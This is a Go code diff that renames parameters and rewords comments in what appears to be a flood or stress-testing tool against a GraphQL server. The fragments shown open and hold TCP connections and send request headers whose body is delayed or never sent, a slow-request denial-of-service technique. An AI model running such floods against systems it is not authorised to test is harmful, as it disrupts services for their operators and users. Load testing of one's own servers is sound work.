@@ -44,7 +44,7 @@ func (attackCommand) Run(ctx context.Context) error {
 	}
 	f, ok := floods()[a.Flood]
 	if !ok {
-		return fmt.Errorf("there is no flood %q", a.Flood)
+		return fmt.Errorf("unknown flood %q", a.Flood)
 	}
 	var all sync.WaitGroup
 	for i := range a.Connections {
@@ -130,9 +130,9 @@ func operation(query string, variables map[string]any) []byte {
 // mainly measure the CPU time that the generator takes from the server.
 const holdsPerSecond = 1_000
 
-// hold opens a connection, writes text and leaves the connection open. If more than most
+// hold opens a connection, writes text and leaves the connection open. If more than limit
 // connections are open, it closes the oldest.
-func (a *attacker) hold(ctx context.Context, most int, text string) {
+func (a *attacker) hold(ctx context.Context, limit int, text string) {
 	wait(ctx, time.Second*time.Duration(a.Connections)/holdsPerSecond)
 	conn, err := dialerFrom(a.Source).DialContext(ctx, "tcp", a.Address)
 	if err != nil {
@@ -141,7 +141,7 @@ func (a *attacker) hold(ctx context.Context, most int, text string) {
 	}
 	_, _ = io.WriteString(conn, text)
 	a.held = append(a.held, conn)
-	if len(a.held) > most/a.Connections {
+	if len(a.held) > limit/a.Connections {
 		_ = a.held[0].Close()
 		a.held = a.held[1:]
 	}
@@ -176,7 +176,7 @@ func (a *attacker) stream(ctx context.Context, lines int, query string, variable
 	}
 }
 
-// head returns the head of a request with a body that is sent later, or never.
+// head returns the header of a request whose body is sent later or never.
 func (a *attacker) head(length int, further ...string) string {
 	return "POST /graphql HTTP/1.1\r\nHost: " + a.Address + "\r\nContent-Type: application/json\r\n" +
 		fmt.Sprintf("Content-Length: %d\r\n", length) + strings.Join(further, "") + "\r\n"
